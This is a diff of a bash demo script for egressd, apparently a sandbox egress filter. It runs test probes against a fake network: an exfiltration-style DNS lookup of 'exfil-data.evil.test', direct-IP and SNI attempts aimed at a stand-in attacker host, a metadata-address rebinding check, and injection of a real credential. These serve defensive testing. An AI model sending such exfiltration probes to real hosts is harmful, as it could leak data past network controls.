@@ -1,45 +1,78 @@
 #!/bin/bash
 # The demo behind "./egress demo": egressd in a throwaway sandbox
 # namespace, a fake internet in another (documentation addresses, no
-# uplink), and a few workload actions with what egressd made of them.
+# uplink, servers with certificates from a throw-away public CA), and a few
+# workload actions with what egressd made of them: DNS deny, direct-IP
+# refusal, an allowed HTTPS request, and a request that got a credential
+# injected and redacted.
+set -u
 EGRESSD_BIN="$1"
-NS_ID="demo$$"
-. "$(dirname "$0")/../tests/netns/nslib.sh"
+export EGRESSD_BIN
+HERE=$(cd "$(dirname "$0")/.." && pwd)
+# shellcheck source=../tests/lib/fixture.sh
+source "$HERE/tests/lib/fixture.sh"
 
-say() { printf '  %-44s %s\n' "$1" "$2"; }
+fx_init "demo$$"
+cleanup() {
+	fx_down
+	rm -rf "$FX_DIR"
+}
+trap cleanup EXIT
+trap 'exit 130' INT TERM
+fx_up >/dev/null || exit 2
+fx_safety || exit 2
+fx_servers_start >/dev/null || exit 2
+chown "$FX_WORKER:$FX_WORKER" "$FX_DIR/sandbox"
 
-ns_up
-mkdir -p "$TMP/always"
-ns_dns --address=/api.allowed.test/203.0.113.10 --address=/evil.test/203.0.113.20 \
-	--host-record=rebind.allowed.test,169.254.169.254
-ns_tcp_server 203.0.113.10 443
-ns_tcp_server 203.0.113.20 443
-ns_wait_listen "$WAN" '203.0.113.20:443'
-policy='{"defaultAction":"deny","egress":[{"action":"allow","target":"api.allowed.test"},{"action":"allow","target":"rebind.allowed.test"}]}'
-ns_egressd OPENSANDBOX_EGRESS_RULES="$policy"
+say() { printf '  %-46s %s\n' "$1" "$2"; }
 
-echo "egressd demo: the sandbox may reach api.allowed.test and rebind.allowed.test; all else is denied."
-echo "(workload = uid 1000 without capabilities; internet = a namespace with 203.0.113.0/24 hosts)"
+POLICY='{"defaultAction":"deny","egress":[
+ {"action":"allow","target":"api.allowed.test"},
+ {"action":"allow","target":"other.allowed.test"}]}'
+fx_egressd_start "$POLICY" OPENSANDBOX_EGRESS_MITMPROXY_TRANSPARENT=true \
+	EGRESSD_CA_EXPORT="$FX_DIR/sandbox/ca.pem" EGRESSD_UPSTREAM_CA="$FX_CERTS/ca.pem" >/dev/null ||
+	{ echo "egressd did not start:"; tail -20 "$FX_DIR/egressd.log"; exit 1; }
+SBXCA=$FX_DIR/sandbox/ca.pem
+PUBCA=$FX_CERTS/ca.pem
+
+echo "egressd demo: the sandbox may reach api.allowed.test and other.allowed.test; all else is denied."
+echo "(workload = uid 1000 without capabilities; internet = a namespace holding 203.0.113.0/24 hosts)"
 echo
 
-a=$(ws dig +short +time=3 +tries=1 @203.0.113.53 api.allowed.test A 2>&1 | head -1)
-say "DNS  api.allowed.test" "-> ${a:-no answer}  (allowed; learned by nft before the answer)"
-r=$(ws dig +time=3 +tries=1 @203.0.113.53 exfil-data.evil.test A 2>&1 | grep -o 'status: [A-Z]*')
-if grep -q exfil-data "$TMP/dns.log"; then up="the upstream saw the query!"; else up="the upstream saw nothing"; fi
-say "DNS  exfil-data.evil.test" "-> ${r#status: }  (denied locally; $up)"
-r=$(ws dig +short +time=3 +tries=1 @203.0.113.53 rebind.allowed.test A 2>&1)
-say "DNS  rebind.allowed.test (answers 169.254.169.254)" "-> ${r:-empty answer}  (metadata address removed)"
-if wconnect 203.0.113.10 443; then c="connected"; else c="refused"; fi
-say "TCP  api.allowed.test:443" "-> $c"
-if wconnect 203.0.113.20 443; then c="connected (LEAK)"; else c="refused (reset by nft: direct IP, never resolved)"; fi
-say "TCP  203.0.113.20:443 (direct IP)" "-> $c"
-if wconnect 203.0.113.10 22; then c="connected (LEAK)"; else c="refused (port not allowed)"; fi
-say "TCP  203.0.113.10:22" "-> $c"
-out=$(api PATCH /policy '[{"action":"allow","target":"evil.test"}]' | tail -1)
-say "API  PATCH /policy allow evil.test" "-> HTTP $out (applied to nft before the answer)"
-a=$(ws dig +short +time=3 +tries=1 @203.0.113.53 evil.test A 2>&1 | head -1)
-if wconnect 203.0.113.20 443; then c="connected"; else c="refused"; fi
-say "DNS+TCP evil.test:443 after the PATCH" "-> ${a:-no answer}, $c"
+a=$(fx_ws dig +short +time=3 +tries=1 api.allowed.test A 2>&1 | head -1)
+say "DNS   api.allowed.test" "-> ${a:-no answer}  (allowed; learned by nft before the answer)"
+r=$(fx_ws dig +time=3 +tries=1 @203.0.113.53 exfil-data.evil.test A 2>&1 | grep -o 'status: [A-Z]*')
+if grep -q exfil-data "$FX_DIR/fakenet/dns.log" 2>/dev/null; then up="the upstream saw it!"; else up="the upstream saw nothing"; fi
+say "DNS   exfil-data.evil.test" "-> ${r#status: }  (denied locally; $up)"
+if fx_ws curl -sS -m 4 -o /dev/null http://203.0.113.20/ 2>/dev/null; then c="connected (LEAK)"; else c="refused (never resolved, not allowed)"; fi
+say "HTTP  203.0.113.20 (direct IP)" "-> $c"
+code=$(fx_ws curl -sS -m 6 --cacert "$PUBCA" -o /dev/null -w '%{http_code}' https://other.allowed.test/v2/items 2>/dev/null)
+say "HTTPS https://other.allowed.test/v2/items" "-> HTTP $code  (passthrough: the server's own certificate, not decrypted)"
+if fx_ws curl -sS -m 4 --cacert "$PUBCA" --resolve evil.test:443:203.0.113.10 https://evil.test/ >/dev/null 2>&1; then
+	c="connected (LEAK)"
+else
+	c="refused (TLS alert: SNI not allowed)"
+fi
+say "HTTPS SNI evil.test sent to an allowed address" "-> $c"
+
+# The control plane stores a credential; the workload only holds a fake key.
+SECRET="sk-live-DEMO-$(od -An -tx1 -N16 /dev/urandom | tr -d ' \n')"
+cat >"$FX_DIR/private/vault.json" <<J
+{"credentials":[{"name":"api-key","source":{"type":"inline","value":"$SECRET"}}],
+ "bindings":[{"name":"api","match":{"hosts":["api.allowed.test"],"methods":["GET"],"paths":["/v1/*"]},
+   "auth":{"type":"bearer","credential":"api-key"}}]}
+J
+code=$(fx_api POST /credential-vault -H 'Content-Type: application/json' \
+	--data-binary @"$FX_DIR/private/vault.json" -o /dev/null -w '%{http_code}')
+say "API   POST /credential-vault (one binding)" "-> HTTP $code"
+out=$(fx_ws curl -sS -m 6 --cacert "$SBXCA" -H 'Authorization: Bearer sk-fake-0000' \
+	https://api.allowed.test/v1/echo 2>&1)
+if grep -q "Bearer $SECRET" "$FX_DIR/fakenet/api.log" 2>/dev/null; then got="received the real key"; else got="did not receive the key"; fi
+seen=$(grep -o '"Bearer [^"]*"' <<<"$out" | head -1)
+if grep -q "$SECRET" <<<"$out"; then leak="the workload saw the key (LEAK)"; else leak="the workload saw $seen"; fi
+say "HTTPS GET https://api.allowed.test/v1/echo" "-> the server $got;"
+say "      (the server echoes the header back)" "   $leak"
 echo
-echo "audit log (JSON lines), last events:"
-grep -E '"event":"(dns_deny|dns_filter|learn|policy_apply)"' "$TMP/egressd.log" | tail -n 6 | cut -c1-160 | sed 's/^/  /'
+echo "audit log (JSON lines), a few events:"
+grep -E '"event":"(dns_deny|conn_reject|inject|redact|vault_update)"' "$FX_DIR/egressd.log" |
+	tail -n 6 | cut -c1-170 | sed 's/^/  /'
